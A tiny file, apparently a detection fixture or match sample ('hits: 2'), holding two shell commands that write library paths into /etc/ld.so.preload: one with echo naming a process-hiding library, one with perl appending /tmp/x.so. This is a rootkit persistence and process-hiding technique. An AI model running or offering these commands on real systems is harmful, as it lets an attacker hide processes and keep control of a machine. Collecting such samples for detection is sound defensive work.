# SPDX-License-Identifier: Apache-2.0
# hits: 2
echo /usr/local/lib/libprocess.so > /etc/ld.so.preload
perl -e 'open F, ">>", "/etc/ld.so.preload"; print F "/tmp/x.so\n"'
